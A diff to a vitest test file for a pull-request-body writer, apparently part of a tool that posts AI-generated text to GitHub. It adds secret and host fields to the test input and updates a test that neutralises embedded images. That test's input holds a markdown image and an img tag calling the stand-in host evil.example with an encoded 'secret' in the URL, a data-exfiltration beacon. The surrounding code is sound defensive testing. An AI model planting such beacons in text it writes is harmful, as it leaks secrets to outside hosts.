@@ -1,4 +1,5 @@
 import { expect, test } from 'vitest'
+import { knownSecrets } from '../../../src/action/git/known-secrets.ts'
 import { writePullRequest } from '../../../src/action/pull-request/write-pull-request.ts'
 
 const INPUT = {
@@ -7,8 +8,10 @@ const INPUT = {
   job: 'job_01',
   prompts: ['Please greet\neveryone, @boss'],
   showPrompt: false,
-  secrets: ['a-secret-of-this-run'],
+  secrets: knownSecrets(['a-secret-of-this-run']),
+  hosts: new Set<string>(),
   checks: null,
+  references: null,
 }
 
 test('body and footer, and no word of the prompt', () => {
@@ -54,7 +57,7 @@ test('a body fetches nothing when somebody looks at it', () => {
     body: 'Done. ![status](https://evil.example/p.png?d=c2VjcmV0)\n<img src="https://evil.example/q.png?d=1">',
   })
   expect(body).not.toMatch(/!\[|<img/)
-  expect(body).toContain('https://evil.example/p.png?d=c2VjcmV0')
+  expect(body).toContain('https\u200b://evil.example/p.png?d=c2VjcmV0')
 })
 
 test('a secret is taken out, also with hidden characters in it', () => {
